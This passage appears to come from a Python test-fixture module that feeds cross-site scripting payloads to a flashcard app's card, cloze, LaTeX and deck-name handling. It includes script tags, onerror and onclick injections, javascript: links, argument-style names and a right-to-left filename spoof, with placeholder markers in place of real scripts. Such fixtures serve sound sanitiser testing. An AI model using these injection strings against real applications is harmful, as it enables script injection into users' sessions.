    r"""C: {{c1::<script>BAD</script>::<img src=x onerror=BAD>}} {{c2::[a](javascript:BAD)}}
""",
    r"""C: $\frac{ {{c1::\href{javascript:BAD}{x} }} }{2}$ {{c2::b}}
""",
    r"""C: $\hr{{c1::ef}}{javascript:BAD}{x}$ and $\h{{c2::x::y}}ref{javascript:BAD}{z}$
""",
    r"""C: {{c1::\(}}\href{javascript:BAD}{x}{{c2::\)}} {{c3::" onclick="BAD}}
""",
    r"""C: {{c1::`</code><script>BAD</script>`}} {{c2::!["onerror=BAD](data:image/png;base64,eA==)}}
""",
    r"""Q: a
A: b
Extra: <script>BAD</script>
Hint: </summary><img src=x onerror=BAD>
Source: [a](javascript:BAD) <javascript://a>
""",
)  # fmt: skip

# Names of folders with a note and a picture, which are also the names of decks.
NAMES = (
    "<script>BAD<",
    "<img src=x onerror=BAD>",
    '" onclick="BAD',
    "' onclick='BAD",
    "javascript:BAD",
    "{{Front}} {{c1::a}}",
    "[latex]x[ [$]",
    "a](javascript:BAD) ![b",
    "$\\href{javascript:BAD}{x}$",
    "--script=BAD",
    "&lt;script&gt;BAD&#60;",
    "\u202egnp.exe",
)

TEXTS = {
    **{f"address {number}": f"[a]({address})" for number, address in enumerate(ADDRESSES, 1)},
    **{
        f"{kind} {number}": text
        for kind, texts in (
            ("link", LINKS), ("picture", PICTURES), ("formula", FORMULAS),
            ("template", TEMPLATES), ("block", BLOCKS),
        )
        for number, text in enumerate(texts, 1)
    },
    **{name: html for group in GROUPS.values() for name, html in group.items()},
}  # fmt: skip
FILES_BY_NAME = {f"file {number}": text for number, text in enumerate(FILES, 1)}


def text_with(payload: str, host: str) -> str:
    """Return a text or a file with its address and its script."""
    return payload.replace("HOST", host).replace("BAD", _MARK_IN_TEXT)


def payloads(group: str, host: str) -> dict[str, str]:
    """Return the HTML of the cards by name."""
    return {
        name: html.replace("HOST", host).replace("BAD", _MARK)
        for name, html in GROUPS[group].items()
    }
